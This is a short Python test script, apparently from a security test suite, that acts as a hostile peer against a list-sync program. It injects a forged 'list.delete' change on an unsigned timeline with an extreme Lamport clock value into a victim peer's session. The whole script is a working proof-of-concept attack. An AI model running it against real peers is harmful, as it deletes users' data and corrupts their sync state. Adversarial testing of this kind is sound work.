# Area 3: list.delete on a fresh UNSIGNED timeline from H at Lamport near/above 2^62 (§15), to victim A.
# usage: t3_lamport.py LIST_TITLE_ON_A LAMPORT [v1|v2]     env W, port A 17520
import sys, json; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from hp import *
W = os.environ.get("W", "/tmp/hostile/t2/l"); AP = int(os.environ.get("AP", "17520"))
h = Ident(W + "/H")
title, lam = sys.argv[1], int(sys.argv[2])
rc, out = run("lists", "--home", W + "/A", "--json")
lid = [bytes.fromhex(l["id"]) for l in json.loads(out)["lists"] if l["title"] == title][0]
rc, st = run("status", "--home", W + "/C"); TC = tl_parse(st.split("timeline")[1].split()[0])
T = int.from_bytes(os.urandom(8), "big")
b = change_bytes(T, 1, lam, bytes(32), "list.delete", p_list_delete_v1(lid, {TC: 2**63 - 1}))
c = Conn(h, AP)
c.hello(summary={T: 1}, heads={T: (1, H(b))})
serve_session(c, [changes_payload([(b, None)])], {T: 1})
print("unsigned timeline", tl_text(T), "lamport", lam)
